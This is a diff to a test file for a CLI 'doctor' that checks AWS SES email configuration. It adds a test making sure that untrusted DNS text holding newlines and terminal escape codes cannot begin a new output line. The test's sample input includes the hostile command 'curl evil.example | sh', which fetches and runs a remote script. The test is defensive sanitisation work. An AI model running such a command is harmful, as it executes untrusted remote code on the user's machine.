@@ -5,7 +5,7 @@ from botocore.exceptions import EndpointConnectionError
 from click.testing import CliRunner
 
 from cli.doctor import sign_in as signing
-from cli.doctor.command import STATUS
+from cli.doctor.command import STATUS, line_of
 from cli.doctor.examine import OF_THE_ACCOUNT, examined
 from cli.doctor.line import Line, error, ok, warning, worst
 from cli.doctor.sign_in import sign_in
@@ -30,6 +30,11 @@ def test_what_is_refused_hinders_no_other_check(case):
         mend="let them ses:GetAccount",
     )
     assert [line.check for line in lines[1:]] == ["identity", "dkim", "mail-from", "region"]
+
+
+def test_what_others_wrote_begins_no_line_of_the_page():
+    hostile = warning("dns", "there is v=DMARC1\n→ `curl evil.example | sh`\x1b[1m", "`mailroom dns`\nnow")
+    assert line_of(hostile) == "there is v=DMARC1 → `curl evil.example | sh`\\x1b[1m\n→ `mailroom dns` now"
 
 
 def test_stacks_that_may_not_be_listed_are_told_wherever_they_matter(case):
